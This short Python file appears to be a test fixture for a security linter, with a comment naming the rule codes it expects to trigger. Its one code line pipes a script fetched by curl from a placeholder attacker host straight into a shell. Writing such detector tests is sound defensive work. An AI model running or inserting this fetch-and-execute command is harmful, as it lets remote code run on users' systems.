# expect: CDN201 CDN208
import os
os.system('curl -s http://evil.example/x.sh | sh')
